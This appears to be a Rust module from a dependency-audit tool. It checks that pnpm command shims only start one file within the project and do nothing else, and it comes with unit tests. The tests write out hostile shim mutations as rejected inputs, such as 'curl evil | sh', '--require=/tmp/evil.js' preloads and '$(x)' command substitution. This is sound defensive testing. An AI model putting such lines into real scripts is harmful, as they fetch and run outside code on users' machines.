//! The small shell scripts that pnpm writes for commands (`@zkochan/cmd-shim`), line by line: what they
//! start, and that they do nothing else.

use super::discover::followed;
use super::shim_lines::LINES;
use std::path::Path;

/// Lines that say nothing of their own.
const FIXED: [&str; 17] = [
    "",
    "#!/bin/sh",
    "basedir=$(dirname \"$(echo \"$0\" | sed -e 's,\\\\,/,g')\")",
    "case `uname` in",
    "*CYGWIN*) basedir=`cygpath -w \"$basedir\"`;;",
    "*CYGWIN*|*MINGW*|*MSYS*)",
    "*CYGWIN*|*MINGW*|*MSYS*) basedir=`cygpath -w \"$basedir\"`;;",
    "if command -v cygpath > /dev/null 2>&1; then",
    "basedir=`cygpath -w \"$basedir\"`",
    ";;",
    "esac",
    "if [ -z \"$NODE_PATH\" ]; then",
    "else",
    "fi",
    "exit $?",
    "ret=$?",
    "exit $ret",
];

/// What a command starts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Started {
    /// The file: a path from the project's folder.
    pub(super) file: String,
    /// Programs that are given the file, each with its options; none where it is run by itself.
    pub(super) programs: Vec<String>,
}

impl Started {
    pub(super) const fn directly(file: String) -> Self {
        Self { file, programs: Vec::new() }
    }
}

/// The file that a script starts: a path from `folder`. `project` is what it names from the root.
///
/// # Errors
/// What is wrong with it.
pub(super) fn target(
    text: &str,
    path: &str,
    folder: &Path,
    project: &Path,
) -> Result<Started, &'static str> {
    let mut found: Option<&str> = None;
    let mut programs = Vec::new();
    for (number, line) in text.lines().enumerate() {
        // What a shell takes for space, and no more.
        let line = line.trim_matches([' ', '\t']);
        if number == 0 && line != "#!/bin/sh" {
            return Err("it is no script that a manager writes");
        }
        // A comment, which says nothing to a shell.
        if FIXED.contains(&line) || LINES.contains(&line) || line == "#" || line.starts_with("# ") {
            continue;
        }
        if let Some(value) = line.strip_prefix("export NODE_PATH=") {
            searched(value, path, folder, project)?;
        } else if let Some((program, started)) = started(line) {
            programs.extend(program);
            if found.replace(started).is_some_and(|other| other != started) {
                return Err("it starts two files");
            }
        } else if !is_test(line) {
            return Err("it does something that no manager writes");
        }
    }
    let started = found.ok_or("it starts nothing")?;
    let file = followed(folder, path, started).ok_or("it leads out of the project")?;
    Ok(Started { file, programs })
}

/// Whether a program, with its options, is what the first line of a file names, or what managers take
/// for files of its kind that name none.
pub(super) fn is_program(program: &str, first: &str, file: &str) -> bool {
    let mut words: Vec<&str> = program.split_ascii_whitespace().collect();
    if let Some(name) = words.first_mut() {
        *name = name.strip_suffix(".exe").unwrap_or(name);
    }
    let named = first.strip_prefix("#!").unwrap_or_default().split_ascii_whitespace();
    let mut named: Vec<&str> = named.collect();
    if matches!(named.first(), Some(&("/usr/bin/env" | "/bin/env"))) {
        named.remove(0);
        // `-S` and variables are for `env`.
        named.retain(|word| *word != "-S");
        let is_set = |word: &&&str| word.contains('=') && !word.starts_with('-');
        let set = named.iter().take_while(is_set).count();
        named.drain(..set);
    }
    if !named.is_empty() {
        return words == named;
    }
    let kind = file.rsplit_once('.').map_or("", |(_, kind)| kind);
    match kind {
        "js" | "cjs" | "mjs" => words == ["node"],
        "cmd" | "bat" => words == ["cmd"],
        "ps1" => words == ["powershell"] || words == ["pwsh"],
        "sh" => words == ["sh"],
        _ => false,
    }
}

/// `if [ -n "$exe" ] && [ -x "$basedir/node.exe" ]; then`
fn is_test(line: &str) -> bool {
    let inside = line.strip_prefix("el").unwrap_or(line).strip_prefix("if ");
    let Some(inside) = inside.and_then(|rest| rest.strip_suffix("; then")) else { return false };
    inside.split(" && ").all(|part| {
        let within = |start: &str, end: &str| {
            part.strip_prefix(start).and_then(|rest| rest.strip_suffix(end)).is_some_and(is_word)
        };
        part == "[ -n \"$exe\" ]"
            || part == "[ -n \"$msys\" ]"
            || within("[ -x \"$basedir/", "\" ]")
            || within("command -v ", " >/dev/null 2>&1")
    })
}

/// `exec node  "$basedir/../eslint/bin/eslint.js" "$@"`, or without a program before it; pnpm 11 and 12
/// write `"$basedir_abs"/'../eslint/bin/eslint.js'`.
fn started(line: &str) -> Option<(Option<String>, &str)> {
    let line = line.strip_suffix("\"$@\"")?.trim_end();
    let line = line.strip_prefix("exec ").unwrap_or(line).trim_start();
    let (before, file) = match line.strip_suffix('\'') {
        Some(line) => {
            let split = |folder: &str| line.rsplit_once(&format!("\"$basedir{folder}\"/'"));
            split("_abs").or_else(|| split("_win")).or_else(|| split(""))?
        }
        None => line.strip_suffix('"')?.rsplit_once("\"$basedir/")?,
    };
    let before = before.trim();
    // Programs and their options, as the first line of the file names them.
    let program = before.strip_prefix("\"$basedir/").map_or(before, |rest| rest);
    let program = program.replacen('"', "", 1);
    let fits = program.split_ascii_whitespace().all(is_word);
    let program = Some(program).filter(|program| !program.is_empty());
    (fits && is_path(file)).then_some((program, file))
}

/// The folders that Node searches besides: each is a `node_modules` of this project, or is not there.
/// They are written in one pair of quotes, each from the root, or each from the script's folder.
fn searched(value: &str, path: &str, root: &Path, project: &Path) -> Result<(), &'static str> {
    let wrong = Err("it lets Node search elsewhere");
    let value = value.strip_suffix(":\"$NODE_PATH\"").unwrap_or(value);
    for part in value.split("':\"$basedir_abs\"/'") {
        let relative =
            part.starts_with("\"$basedir_abs\"/'") || value.starts_with("\"$basedir_abs\"/'");
        let part = part.trim_start_matches("\"$basedir_abs\"/").trim_matches(['"', '\'']);
        for folder in part.split(':').filter(|folder| *folder != "$NODE_PATH") {
            if !is_path(folder) {
                return wrong;
            }
            if relative {
                let inside = followed(root, path, folder);
                if inside.is_some_and(|inside| {
                    inside.ends_with("node_modules") && !inside.starts_with("..")
                }) {
                    continue;
                }
                return wrong;
            }
            if !folder.ends_with("/node_modules") {
                return wrong;
            }
            let elsewhere = Path::new(folder).canonicalize().is_ok_and(|folder| {
                !project.canonicalize().is_ok_and(|project| folder.starts_with(project))
            });
            if elsewhere || !folder.starts_with('/') {
                return wrong;
            }
        }
    }
    Ok(())
}

fn is_word(text: &str) -> bool {
    text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.=/".contains(&byte))
}

/// A path in double quotes that a shell takes as it is.
fn is_path(text: &str) -> bool {
    !text.is_empty() && !text.contains(['"', '\'', '$', '`', '\\', '\n'])
}

#[cfg(test)]
mod tests {
    use super::*;

    const SHIM: &str = "#!/bin/sh
basedir=$(dirname \"$(echo \"$0\" | sed -e 's,\\\\,/,g')\")

case `uname` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=`cygpath -w \"$basedir\"`
        fi
    ;;
esac

if [ -z \"$NODE_PATH\" ]; then
  export NODE_PATH=\"/nowhere/app/node_modules/.pnpm/node_modules\"
else
  export NODE_PATH=\"/nowhere/app/node_modules/.pnpm/node_modules:$NODE_PATH\"
fi
if [ -x \"$basedir/node\" ]; then
  exec \"$basedir/node\"  \"$basedir/../eslint/bin/eslint.js\" \"$@\"
else
  exec node  \"$basedir/../eslint/bin/eslint.js\" \"$@\"
fi
";

    fn read(text: &str) -> Result<String, &'static str> {
        let started = target(
            text,
            "node_modules/.bin/eslint",
            Path::new("/nowhere/app"),
            Path::new("/nowhere/app"),
        )?;
        let fits = |one: &String| is_program(one, "#!/usr/bin/env node", &started.file);
        started.programs.iter().all(fits).then_some(started.file).ok_or("another program")
    }

    #[test]
    fn a_file_is_run_by_the_program_that_it_names_itself() {
        let line = "#!/usr/bin/env -S FOO=1 node --no-warnings";
        for (program, first, is_it) in [
            ("node", "#!/usr/bin/env node\r", true),
            ("node.exe", "#!/usr/bin/env node", true),
            ("node --no-warnings", line, true),
            ("/bin/sh", "#!/bin/sh", true),
            ("node", "", true),
            ("node --no-warnings --require=/tmp/x.js", line, false),
            ("node --require=/tmp/x.js", "", false),
            ("NODE_OPTIONS=--require=/tmp/x.js node", "", false),
            ("/tmp/node", "#!/usr/bin/env node", false),
            ("../../evil/node", "#!/usr/bin/env node", false),
            ("sh", "#!/usr/bin/env node", false),
        ] {
            assert_eq!(is_program(program, first, "node_modules/a/cli.js"), is_it, "{program}");
        }
        assert!(!is_program("node", "", "node_modules/a/program"), "it names no program");
    }

    #[test]
    fn what_a_script_of_pnpm_starts_is_told() {
        assert_eq!(read(SHIM).as_deref(), Ok("node_modules/eslint/bin/eslint.js"));
        let direct = "#!/bin/sh\nexec \"$basedir/../a/run\"  \"$@\"\n";
        assert_eq!(read(direct).as_deref(), Ok("node_modules/a/run"));
    }

    #[test]
    fn a_tree_that_waits_beside_the_old_one_names_the_project() {
        let project = std::fs::canonicalize(env!("CARGO_MANIFEST_DIR")).unwrap();
        std::fs::create_dir_all(project.join("../../target/tmp")).unwrap();
        let root = tempfile::tempdir_in(project.join("../../target/tmp")).unwrap();
        let root = root.path().canonicalize().unwrap();
        let old = root.join("node_modules/.pnpm/node_modules");
        std::fs::create_dir_all(&old).unwrap();
        let text =
            SHIM.replace("/nowhere/app/node_modules/.pnpm/node_modules", old.to_str().unwrap());
        let waiting = root.join("waiting");
        let told = |project: &Path| target(&text, "node_modules/.bin/eslint", &waiting, project);
        assert!(told(&root).is_ok());
        assert!(told(&waiting).is_err(), "another project's");
    }

    #[test]
    fn scripts_of_pnpm_12_are_read_with_their_quotes() {
        let text = "#!/bin/sh\n#\nhops=0\nif [ -z \"$NODE_PATH\" ]; then\n  \
            export NODE_PATH=\"$basedir_abs\"/'../.pnpm/a/node_modules':\"$basedir_abs\"/'../.pnpm/node_modules'\n\
            else\n  export NODE_PATH=\"$basedir_abs\"/'../.pnpm/node_modules':\"$NODE_PATH\"\nfi\n\
            if [ -n \"$exe\" ] && [ -x \"$basedir/node.exe\" ]; then\n  \
            exec \"$basedir/node.exe\"  \"$basedir_win\"/'../eslint/bin/eslint.js' \"$@\"\n\
            elif command -v node >/dev/null 2>&1; then\n  \
            exec node  \"$basedir_abs\"/'../eslint/bin/eslint.js' \"$@\"\nfi\n";
        assert_eq!(read(text).as_deref(), Ok("node_modules/eslint/bin/eslint.js"));
        for (from, to) in [
            ("'../eslint/bin/eslint.js' \"$@\"\nfi", "'../evil/x.js' \"$@\"\nfi"),
            ("'../.pnpm/node_modules':\"$NODE", "'../../../tmp/node_modules':\"$NODE"),
            ("'../.pnpm/node_modules':\"$NODE", "'/tmp':\"$NODE"),
            ("'../.pnpm/node_modules':\"$NODE", "$(x)'../.pnpm/node_modules':\"$NODE"),
            ("hops=0", "hops=$(x)"),
            ("command -v node >", "command -v $(x) >"),
        ] {
            let changed = text.replacen(from, to, 1);
            assert_ne!(changed, text, "{from}");
            assert!(read(&changed).is_err(), "{to}");
        }
    }

    #[test]
    fn a_script_that_does_more_is_told() {
        for (from, to) in [
            ("exec node  \"$basedir/../eslint", "exec node  \"$basedir/../evil"),
            ("exec node ", "exec node -r$(x) "),
            ("exec node ", "exec node --require=/tmp/evil.js "),
            ("exec node ", "exec /tmp/evil "),
            ("exec node ", "NODE_OPTIONS=--require=/tmp/evil.js node "),
            ("\"$basedir/node\"  ", "\"$basedir/../../evil/node\"  "),
            ("exec node ", "curl evil; exec node "),
            ("../eslint/bin/eslint.js\" \"$@\"\nelse", "../`x`/eslint.js\" \"$@\"\nelse"),
            (":$NODE_PATH", ":/tmp/$(x)/node_modules"),
            ("/nowhere/app/node_modules/.pnpm/node_modules\"", "/tmp\""),
            ("esac\n", "esac\ncurl evil | sh\n"),
            ("#!/bin/sh", "#!/bin/bash"),
        ] {
            let changed = SHIM.replacen(from, to, 1);
            assert_ne!(changed, SHIM);
            assert!(read(&changed).is_err(), "{to}");
        }
    }
}
